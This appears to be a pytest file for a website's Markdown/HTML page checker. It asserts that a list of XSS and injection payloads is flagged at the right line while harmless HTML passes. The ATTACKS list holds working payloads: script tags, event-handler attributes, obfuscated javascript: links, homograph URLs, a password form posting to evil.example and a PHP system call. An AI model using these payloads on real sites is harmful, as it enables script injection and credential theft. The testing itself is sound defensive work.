"""HTML in a page that runs, loads or hides something is a problem at its line; harmless HTML is not."""

from __future__ import annotations

import lxml.html
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown import Markdown

from macros.checks.pages import page_problems
from macros.loading.pages import Page
from macros.text.inline_markdown import is_address
from tests.conftest import REAL

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT src=//evil.example/x.js></SCRIPT>",
    "<scr\nipt>alert(1)</scr\nipt>",
    "</script>",
    "<script/src=x>",
    "<iframe src='https://evil.example'></iframe>",
    '<form action="https://evil.example/"><input name="password"></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<style>* { display: none }</style>",
    "<img src=x onerror=alert(1)>",
    '<p style="position:fixed">x</p>',
    '<b onclick="x()">x</b>',
    "<b onclick=x()>x</b>",
    "<b\nonmouseover\n=\nx()>x</b>",
    '<b ONCLICK="x()">x</b>',
    '<b/onclick="x()">x</b>',
    '<b title="a"onclick="x()">x</b>',
    '<b style="color: red">x</b>',
    '<b title="a>" onclick="x()">x</b>',
    "<b title='<' onclick='x()'>x</b>",
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="data:text/html,<script>x()</script>">x</a>',
    '<a href="//evil.example/">x</a>',
    '<a href="https:\\\\evil.example">x</a>',
    '<a href="x" ping="https://evil.example">x</a>',
    "<!-- <script>alert(1)</script> -->",
    "<!--> <b onclick='x()'>x</b> -->",
    "<!-- never closed",
    "<!-- a -- b -->",
    "<!DOCTYPE html>",
    "<?php system('id') ?>",
    "<![CDATA[ x ]]>",
    "<javascript:alert(1)>",
    "<https://evil.example\\@good.example>",
    "<https://\u0430pple.com>",
    "[x](javascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java\nscript:alert(1))",
    "[x](javascript&amp;#58;alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/)",
    "[x](/\\evil.example/)",
    "[x](https:evil.example)",
    "[x](https://good.example@evil.example/)",
    "[x](https://b\u00fccher.example/)",
    "[x](https://evil\u3002example/)",
    '[x](a "b" onclick="x()")',
    "[x][y]\n\n[y]:\n  javascript:alert(1)",
    "[x][y]\n\n> - [y]: <javascript:alert(1)>",
    "[x]({{ edition() }}javascript:alert(1))",
    "<scr{{ post() }}ipt>alert(1)</script>",
    "<{{ post() }}script>",
    '<b {{ post() }}onclick="x()">',
    "![x](https://evil.example/x.png)",
    "![x][y]",
    "# A {: onclick=x() }",
    "# A { onclick=x() }",
    "*a*{style=x}",
    "Words\n{: #a onclick=x() }",
    "# A {: #a {{ post() }} }",
    "*a*{: .b\tonclick=x }",
    "- " * 8 + "x",
]
HARMLESS = [
    "Text, 3 < 4 > 2, a &lt; b, \\*not\\*, `code` & more.",
    'It has <a href="#author">an anchor</a>, <b class="x">bold</b>, H<sub>2</sub>O<br>and <time datetime="2026-11-26">today</time>.',
    "## A heading {: #anchor }\n\nText\n{: .without-script }",
    "[a](../law.md#summary) [b](https://a.example/x?y=z#(1)) [c](mailto:a.b@c.example) [d](a.md 'title') [e](#f) [g](?q=a:b) [h](a/b:c)",
    "<https://a.example/x> and <office@council.gov.uk>\n\n[1]: https://a.example/ 'title'",
    '{{ link("1a") }} and {{ link(record="trust", words="the *b*") }} [x](y) {{ values() }}',
    "<!-- a note\nof two lines -->",
    "Stop![[outcome]] [[outcome|outcomes]]: the {{ values() }}",
    "[x](https://xn--bcher-kva.example/)",
]


def found(text: str) -> list[tuple[int, str]]:
    return [(problem.line, problem.message) for problem in page_problems(Page("content/x.md", None, text, 5))]


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_is_a_problem_at_its_line(attack: str) -> None:
    problems = found(f"One\n\n{attack}\n\nlast")
    assert problems
    assert 7 <= problems[0][0] <= 7 + attack.count("\n")
    assert all("\0" not in message and "; " in message for _, message in problems)


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_html_is_no_problem(text: str) -> None:
    assert found(text) == []


def test_an_attribute_is_a_problem_at_its_own_line() -> None:
    assert found('a\n<a href="#x"\n title="y"\n onclick="z()">x</a>') == [(8, "the attribute onclick of <a>; delete it")]


TAGS = set(
    """a abbr b bdi blockquote br cite code del dfn div em h1 h2 h3 h4 h5 h6 hr i ins kbd li mark ol p pre q s small span strong
    sub sup table tbody td th thead time tr u ul wbr""".split()  # noqa: SIM905
)
ATTRIBUTES = {"class", "dir", "id", "lang", "title", "href", "datetime", "align", "start"}
PIECES = [piece for attack in ATTACKS for piece in attack.replace("\n", " \n ").split(" ") if "{{" not in piece and "- -" not in piece]
PIECES += [
    "<",
    ">",
    "<b",
    'title="',
    '"',
    "'",
    "{",
    "{:",
    "}",
    "`",
    "\\",
    "](",
    "[",
    ")",
    "&",
    ";",
    "\n",
    "\n\n",
    "    ",
    "- ",
    "> ",
    "|",
    "<!--",
    "-->",
]


@settings(max_examples=400, deadline=None, derandomize=True)
@given(st.lists(st.one_of(st.sampled_from(PIECES), st.text(max_size=4)), max_size=12).map(" ".join))
@example("<b title='a\n\n' onclick=x>y</b>")
def test_html_without_a_problem_is_harmless(text: str) -> None:
    text = "".join(c for c in text if c == "\n" or (c.isprintable() and c != "\0"))
    if found(text):
        return
    html = Markdown(extensions=["attr_list", "tables", "toc"]).convert(text)
    for element in lxml.html.fragment_fromstring(html, create_parent="div").iter(lxml.etree.Element):
        assert element.tag in TAGS, text
        assert set(element.attrib) <= ATTRIBUTES, text
        target = element.get("href", "")
        assert ":" not in target.split("/")[0].split("?")[0].split("#")[0] or is_address(target) or "@" in target, text
        assert not target.startswith(("//", "/\\", "\\")), text


def test_the_real_pages_are_harmless() -> None:
    for file in (REAL / "content").rglob("*.md"):
        text = file.read_text("utf-8").split("\n---\n", 1)[1]
        assert found(text) == [], file


def test_unclosed_braces_are_read_in_linear_time() -> None:
    assert found("{{ " * 20_000)[0][1].startswith("a paragraph of more than")
